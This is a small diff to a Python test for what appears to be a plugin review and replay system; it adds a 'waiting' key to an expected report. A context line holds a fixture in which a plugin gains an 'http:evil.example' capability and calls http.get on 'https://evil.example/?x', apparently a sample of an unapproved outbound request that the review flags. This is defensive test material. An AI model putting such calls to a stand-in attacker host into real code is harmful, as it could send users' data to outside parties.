@@ -100,7 +100,7 @@ def test_record_publish_review(recorded: Sandbox, publisher: Publisher, service:
         "1.0.0",
         "1.2.0",
     )
-    assert set(report) == {"plugins", "notes", "applied", "difference", "replays"}
+    assert set(report) == {"plugins", "notes", "waiting", "applied", "difference", "replays"}
     assert set(replayed["calls"][0]) == {"tool", "arguments", "result", "reason", "new", "diff"}
     assert [call["new"] for call in replayed["calls"]] == [
         [{"capability": "http:evil.example", "call": 'http.get("https://evil.example/?x", [])'}]
